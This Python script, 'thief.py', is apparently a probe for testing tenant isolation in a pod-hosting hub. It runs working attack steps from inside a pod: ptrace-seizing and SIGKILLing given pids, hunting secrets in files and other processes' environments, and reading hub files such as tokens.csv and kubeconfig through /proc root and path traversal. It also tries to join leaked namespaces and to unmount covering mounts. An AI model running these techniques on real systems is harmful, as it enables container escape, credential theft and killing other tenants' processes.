"""A program that a tenant runs as a pod, to get at the hub and at other pods.

    python thief.py SECRETS DATA PIDS

It looks for the secrets (texts, in JSON), tries to read below the hub's data folder, and attacks
the processes with these pids. It prints what it got, as JSON.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import sys
from pathlib import Path

_LARGE = ("/usr", "/proc", "/sys", "/dev", "/opt", sys.prefix, sys.base_prefix)
_NEW_USER_AND_MOUNTS = 0x10000000 | 0x00020000
_SEIZE = 0x4206
_FILE_BYTES_MAX = 1 << 20


def main(secrets: list[str], data: str, pids: list[int]) -> dict[str, list[str]]:
    system = ctypes.CDLL(None, use_errno=True)
    return {
        # First, while the pids are surely still those of whom they are meant for.
        "traced": [str(pid) for pid in pids if system.ptrace(_SEIZE, pid, 0, 0) == 0],
        "killed": [str(pid) for pid in pids if is_signalled(pid)],
        "data": find_data(data),
        "processes": find_processes(secrets, data),
        "environment": [name for name, value in os.environ.items() if value in secrets],
        "namespaces": [
            path.name for path in Path("/proc/self/fd").iterdir() if joins(system, int(path.name))
        ],
        "writable": [path for path in (sys.executable, "/usr/bin/env") if may_write(path)],
        "unmounted": find_after_unmounting(system, data),
        "files": find_files("/", secrets),
    }


def find_files(root: str, secrets: list[str]) -> list[str]:
    """Files with a secret in them, wherever this program may look."""
    result = []
    for folder, below, names in os.walk(root):
        below[:] = [name for name in below if str(Path(folder, name)) not in _LARGE]
        for path in (Path(folder, name) for name in names):
            if path.is_file() and any(secret in read(path) for secret in secrets):
                result.append(str(path))
    return result


def find_data(data: str) -> list[str]:
    """What of the hub's own files can be read."""
    names = ("tokens.csv", "kubeconfig", "fairway.db", "keys", "clusters/here/pods/lock")
    return [name for name in names if os.access(Path(data, name), os.R_OK)]


def find_processes(secrets: list[str], data: str) -> list[str]:
    """Other processes whose environment, files or memory show something."""
    result = []
    for process in (path for path in Path("/proc").iterdir() if path.name.isdigit()):
        shown = read(process / "environ")
        if any(secret in shown for secret in secrets):
            result.append(f"{process}: environment")
        for way in ("root", "cwd/../../../../../../../../../../.."):
            if os.access(f"{process}/{way}{data}/tokens.csv", os.R_OK):
                result.append(f"{process}: {way}")
    return result


def is_signalled(pid: int) -> bool:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        return False
    return True


def joins(system: ctypes.CDLL, descriptor: int) -> bool:
    """Whether a descriptor that was left open leads into another namespace."""
    return bool(system.setns(descriptor, 0) == 0)


def may_write(path: str) -> bool:
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    except OSError:
        return False
    return True


def find_after_unmounting(system: ctypes.CDLL, data: str) -> list[str]:
    """What of the hub's files can be read after taking away what may cover them."""
    read_end, written = os.pipe()
    child = os.fork()
    if child == 0:
        found = []
        if system.unshare(_NEW_USER_AND_MOUNTS) == 0:
            for line in reversed(read(Path("/proc/self/mounts")).splitlines()):
                system.umount2(line.split()[1].encode(), 2)
            found = find_data(data)
        os.write(written, json.dumps(found).encode())
        os._exit(0)
    os.close(written)
    os.waitpid(child, 0)
    result: list[str] = json.loads(os.read(read_end, 65536) or "[]")
    return result


def read(path: Path) -> str:
    try:
        with path.open("rb") as file:
            return file.read(_FILE_BYTES_MAX).decode(errors="replace")
    except OSError:
        return ""


if __name__ == "__main__":
    print(json.dumps(main(*(json.loads(word) for word in sys.argv[1:]))), flush=True)
